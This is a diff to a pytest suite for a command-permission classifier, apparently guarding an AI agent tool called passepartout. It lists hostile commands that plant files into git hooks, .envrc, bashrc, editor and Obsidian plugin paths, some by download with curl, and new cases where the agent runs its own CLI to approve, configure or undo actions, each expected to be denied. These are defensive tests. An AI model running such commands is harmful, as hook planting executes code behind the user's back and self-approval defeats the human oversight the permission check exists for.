@@ -70,13 +70,17 @@ HIDDEN = ["cp a.org .git/hooks/post-commit", "cp -t .git/hooks a.org", "mv a.org
           "curl -o .git/hooks/x https://example.org", "cd .git && cp ../a.org hooks/x", "cd .git/hooks; cp ../../a.org x", "cp a.org src/../.git/x", "cp a.org \"$(echo .git)/hooks/x\"", "sh -c 'cp a.org .git/hooks/x'", "find . -name a.org -exec cp {} .git/hooks/x \\;", "ls *.org | xargs -I{} cp {} .git/hooks/x", "mkdir -p .git/hooks && cp a.org .git/hooks/",
           "sudo cp a.org .git/hooks/x", "cp a.org site.git/config", "cp a.org bashrc", "cp a.org .obsidian/plugins/x/main.js", "cp a.org .envrc", "cp evil/.dir-locals.el ."]
 
+@pytest.mark.parametrize("line", ["passepartout approve abc123", "passepartout configure -y --provider openai", "echo yes | passepartout chat", ".venv/bin/passepartout approve x", "python3 -m passepartout.cli approvals", "env passepartout undo", "sh -c 'passepartout approve x'", "ls | xargs -n1 passepartout ask", "timeout 5 passepartout undo 1000", "PASSEPARTOUT approve x"])
+def test_the_agent_does_not_speak_to_itself_in_the_name_of_the_person(line, roots): assert level(line, roots) == DENY
+
+
 @pytest.mark.parametrize("line", HIDDEN)
 def test_no_program_puts_something_into_what_belongs_to_another(line, roots):
     __import__("os").makedirs(f"{roots[0].path}/.git/hooks", exist_ok=True)
     assert level(line, roots) == DENY
 
 
-@pytest.mark.parametrize("line", ["python3 -m venv .venv", "yq -i .a=1 a.txt", "mv .draft.org draft.org", "cp -r .obsidian backup", "mkdir .notes", "chmod +x .git/hooks/x", "git config core.hooksPath hooks", "git config user.name Ana", "sed -i s/a/b/ a.org", "cp a.org b.org", "git add .gitignore", "cp .gitignore ignored.txt"])
+@pytest.mark.parametrize("line", ["python3 -m venv .venv", "yq -i .a=1 a.txt", "mv .draft.org draft.org", "cp -r .obsidian backup", "mkdir .notes", "chmod +x .git/hooks/x", "git config core.hooksPath hooks", "git config user.name Ana", "sed -i s/a/b/ a.org", "cp a.org b.org", "git add .gitignore", "cp .gitignore ignored.txt", "pkill passepartout"])
 def test_what_a_program_makes_for_itself_is_asked_about(line, roots):
     judged = judge_command(line, roots, "/home/ana")
     assert READ < judged.level < DENY and ("which programs git runs" in str(judged.reasons)) == ("hooksPath" in line), judged.reasons
